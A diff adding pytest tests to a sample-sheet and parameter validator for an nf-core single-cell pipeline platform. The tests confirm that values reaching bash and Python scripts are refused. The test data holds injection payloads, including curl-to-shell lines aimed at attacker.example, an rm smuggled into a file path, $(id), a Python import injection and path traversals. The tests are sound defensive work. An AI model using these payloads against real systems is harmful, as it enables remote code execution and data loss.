@@ -60,9 +60,14 @@ def test_bom_crlf_and_quoting_are_accepted(scrnaseq) -> None:
     csv_text = (
         '\ufeffsample,fastq_1,"fastq_2",expected_cells,seq_center\r\n'
         '"PBMC_1","s3://b/PBMC_1_R1.fastq.gz",s3://b/PBMC_1_R2.fastq.gz,"5000","Genomics Core, Bldg 2"\r\n'
-        'PBMC_2,s3://b/PBMC_2_R1.fastq.gz,s3://b/PBMC_2_R2.fastq.gz,,"multi\r\nline ""quoted"" centre"\r\n'
+        'PBMC_2,s3://b/PBMC_2_R1.fastq.gz,s3://b/PBMC_2_R2.fastq.gz,,"Core 2, Bldg 3"\r\n'
     )
     assert validate_run_inputs(scrnaseq, PARAMS, csv_text).sample_count == 2
+    # A quoted cell may span lines in CSV, but its text reaches the pipeline's scripts: refused, on its row.
+    multiline = csv_text.replace('"Core 2, Bldg 3"', '"multi\r\nline ""quoted"" centre"')
+    problems = sheet_problems(scrnaseq, multiline)
+    assert list(problems) == ["samplesheet[row 2].seq_center"]
+    assert "text reaches the pipeline's scripts" in problems["samplesheet[row 2].seq_center"]
     assert validate_run_inputs(scrnaseq, PARAMS, GOOD.replace("\n", "\r")).sample_count == 2  # old Mac line ends
 
 
@@ -458,3 +463,59 @@ def test_paths_of_a_large_sheet_keep_their_row_numbers_on_the_fast_path(scrnaseq
     assert len(paths) == 10_000
     assert (paths[-1].field, paths[-1].uri) == ("samplesheet[row 5000].fastq_2", "s4999_R2.fastq.gz")
     assert (paths[6001].field, paths[6001].uri) == ("samplesheet[row 3001].fastq_2", "s3000_R2.fastq.gz")
+
+
+# ------------------------------------------------------------------------- values that reach scripts
+# nf-core modules paste these into bash and Python unescaped (services/pipelines/script_values.py cites
+# where): FASTQC `printf "%s %s\n" $rename_to` (meta.id), cellranger_count.py `sample_id = "${meta.id}"`,
+# MultiQC `--title \"$params.multiqc_title\"`, and publishDir's saveAs "${meta.id}/${filename}".
+
+
+@pytest.mark.parametrize(
+    "sample",
+    ["s1;curl${IFS}attacker.example|sh;#", "../../../run-0badc0de/results/x", "..", 'x",__import__("os")', "a+b"],
+)
+def test_sample_names_that_would_reach_a_script_are_refused(scrnaseq, sample: str) -> None:
+    csv_text = f"{HEADER}\n{sample},gs://b/x_R1.fastq.gz,gs://b/x_R2.fastq.gz,100\n"
+    problems = sheet_problems(scrnaseq, csv_text)
+    assert "names reach the pipeline's scripts" in problems["samplesheet[row 1].sample"]
+
+
+@pytest.mark.parametrize("path", ["gs://b/a;rm${IFS}x.fastq.gz", "gs://b/*.fastq.gz", "gs://b/$(id).fastq.gz"])
+def test_file_cells_with_shell_characters_are_refused(scrnaseq, path: str) -> None:
+    csv_text = f"{HEADER}\nS1,{path},gs://b/x_R2.fastq.gz,100\n"
+    problems = sheet_problems(scrnaseq, csv_text)
+    assert "paths reach the pipeline's scripts" in problems["samplesheet[row 1].fastq_1"]
+
+
+def test_free_text_params_take_plain_text_only(scrnaseq) -> None:
+    assert check_params(scrnaseq, {**PARAMS, "multiqc_title": "PBMC run 7, lanes 1-2"}) == []
+    for title in ("x$(curl -s attacker.example|sh)", 'a" --config /etc/x "', "line\nbreak"):
+        (problem,) = check_params(scrnaseq, {**PARAMS, "multiqc_title": title})
+        assert problem.field == "params.multiqc_title" and "text reaches the pipeline's scripts" in problem.description
+    # A URL in a param the schema does not call a path would be read unchecked by the pipeline.
+    (problem,) = check_params(scrnaseq, {**PARAMS, "genome": "https://attacker.example/genome"})
+    assert "looks like a URL or a path" in problem.description
+
+
+def test_params_that_run_templates_or_fetch_remote_data_are_forbidden(scrnaseq) -> None:
+    for name in ("multiqc_methods_description", "pipelines_testdata_base_path"):
+        (problem,) = check_params(scrnaseq, {**PARAMS, name: "gs://lab-data/m.yml"})
+        assert problem.field == f"params.{name}" and "may not be set on this platform" in problem.description
+
+
+def test_file_params_without_a_format_are_paths_too(scrnaseq, catalog: Catalog) -> None:
+    # scrnaseq reads multiqc_logo, motifs and cellrangerarc_config as files (no `format` in any schema),
+    # and 2.5.1's schema gives the references none: the manifest's path_params make them input paths.
+    params = {**PARAMS, "multiqc_logo": "gs://lab-data/logo.png", "motifs": "gs://lab-data/motifs.txt"}
+    report = validate_run_inputs(scrnaseq, params, GOOD)
+    named = {p.field: (p.uri, p.kind, p.must_exist) for p in report.input_paths if p.field.startswith("params.")}
+    assert named == {
+        "params.multiqc_logo": ("gs://lab-data/logo.png", "file", True),
+        "params.motifs": ("gs://lab-data/motifs.txt", "file", True),
+    }
+    old = catalog.schema(SCRNASEQ, "2.5.1")
+    report = validate_run_inputs(old, {**PARAMS, "gtf": "gs://refs/genes.gtf"}, GOOD)
+    assert ("params.gtf", "gs://refs/genes.gtf") in [(p.field, p.uri) for p in report.input_paths]
+    (problem,) = check_params(scrnaseq, {**PARAMS, "multiqc_logo": "gs://lab-data/my logo.png"})
+    assert "paths reach the pipeline's scripts" in problem.description
